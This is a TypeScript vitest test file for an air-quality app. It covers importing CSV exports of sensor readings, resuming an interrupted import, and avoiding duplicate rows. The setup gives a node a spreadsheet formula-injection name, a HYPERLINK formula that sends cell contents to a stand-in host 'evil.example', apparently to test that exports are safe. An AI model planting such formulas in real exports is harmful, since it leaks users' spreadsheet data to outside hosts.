import { rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { ImportMap } from '@airshed/schemas'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { createWorld, type World } from '../../testing/world/world.ts'
import { scratchFolder } from '../../testing/scratchFolder.ts'
import { seedReadings } from '../../testing/seed.ts'
import { TEST_NOW_MS } from '../../testing/testServer.ts'
import { completeByPreset } from './completeByPreset.ts'
import { importFile } from './importFile.ts'
import { checkMap } from './mapFile.ts'
import { createStoreSink } from './storeSink.ts'

const MINUTE_MS = 60_000
const COUNT = 12_000

let world: World
let folder = ''
let exported = ''
beforeAll(async () => {
  world = await createWorld()
  folder = await scratchFolder('airshed-import-')
  const name = 'Roof,=HYPERLINK("http://evil.example/?"&A9;"click")'
  await world.context.store.db.updateTable('nodes').set({ name }).execute()
  await seedReadings(
    world.context,
    world.city.pm25,
    Array.from(
      { length: COUNT },
      (_, at) => [TEST_NOW_MS - at * MINUTE_MS, at % 50, at % 7 === 0 ? 16 : 0] as const,
    ),
  )
  const search = { data_point_id: [world.city.pm25.id], from: 0, to: TEST_NOW_MS + 1 }
  exported = (await world.call<string>('user', 'POST', 'search/measurements/export', search)).body
})
afterAll(async () => {
  await world.close()
  await rm(folder, { recursive: true, force: true })
})

it('reads an export with a map of another device below its quoted comments', async () => {
  const file = join(folder, 'readings.csv')
  await writeFile(file, exported)
  const skipLines = exported.split('\r\n').findIndex((line) => line.startsWith('time,'))
  expect(skipLines).toBeGreaterThan(5)
  const report = await importFile({
    file,
    map: {
      serial: 'copy',
      skipLines,
      time: { column: 'time' },
      columns: { value: { parameter: 'pm25', unit: 'µg/m³' } },
    },
    sink: await createStoreSink(world.context, 'city'),
    now: TEST_NOW_MS,
  })
  // The last line of the file counts its readings, and hidden values are in another column.
  expect(report).toMatchObject({ rowsRead: COUNT + 1, rowsRefused: 1 })
  const { rows } = await world.context.store.db
    .selectFrom('data_points')
    .select('last_value')
    .where('node_id', '=', 'copy:0')
    .execute()
    .then((found) => ({ rows: found }))
  expect(rows).toEqual([{ last_value: 1 }])
})

it('continues an interrupted export and recognizes its end', async () => {
  const file = join(folder, 'copy.csv')
  await writeFile(file, exported)
  const device = { column: 'data_point_id', prefix: 'again:' }
  const { map: completed } = await completeByPreset(file, undefined, {}, { device })
  const map: ImportMap = checkMap(completed, 'of an export')
  const sink = await createStoreSink(world.context, 'city')
  let writes = 0
  const interrupted = importFile({
    file,
    map,
    now: TEST_NOW_MS,
    sink: {
      ...sink,
      async write(...batch) {
        writes += 1
        if (writes === 2) throw new Error('The process was killed')
        return sink.write(...batch)
      },
    },
  })
  await expect(interrupted).rejects.toThrow('killed')
  const report = await importFile({ file, map, sink, now: TEST_NOW_MS })
  expect(report.resumedAfterRows).toBeGreaterThan(0)
  expect(report).toMatchObject({ rowsRead: COUNT, rowsStored: COUNT, rowsRefused: 0, refusals: [] })

  const once = await importFile({ file, map, sink, now: TEST_NOW_MS })
  expect(once).toMatchObject({ rowsRead: COUNT, rowsStored: COUNT, rowsRefused: 0, refusals: [] })
  const { count } = await world.context.store.db
    .selectFrom('measurements')
    .innerJoin('data_points', 'data_points.key', 'measurements.data_point')
    .select((eb) => eb.fn.countAll<number>().as('count'))
    .where('data_points.id', '=', `again:${world.city.pm25.id}`)
    .executeTakeFirstOrThrow()
  expect(Number(count)).toBe(COUNT)
})
